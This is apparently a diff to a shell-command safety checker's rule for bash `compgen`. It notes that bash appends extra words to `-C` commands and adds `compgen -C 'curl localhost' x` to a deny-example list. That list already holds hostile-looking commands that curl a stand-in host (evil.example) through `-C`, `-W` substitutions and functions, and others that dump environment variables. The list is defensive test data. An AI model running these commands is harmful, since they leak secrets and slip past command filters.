@@ -408,7 +408,9 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       for (const o of p.options) {
         if (!o.value) continue;
         // `-C CMD` runs CMD as shell text; `-F NAME` calls the function NAME.
-        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `compgen -${o.name}`, sameShell: o.name === 'F' });
+        // Bash appends the command being completed, the word and the word before it: `-C 'curl localhost'` runs
+        // `curl localhost compgen x ''`, whose last words curl reads as more hosts.
+        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `compgen -${o.name}`, sameShell: o.name === 'F', more: true });
         // `-W LIST`: bash splits the list and expands each word again, so a `$(…)` in its value runs.
         if (o.name === 'W') {
           const v = value(o.value);
@@ -421,7 +423,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       return out;
     },
     examples: {
-      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x'],
+      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -C 'curl localhost' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x'],
       pass: ['compgen -c git', 'compgen -f src/', "compgen -W 'start stop status' st", "compgen -C 'ls' x", 'compgen -P "$" -W "a b" a'],
     },
   },
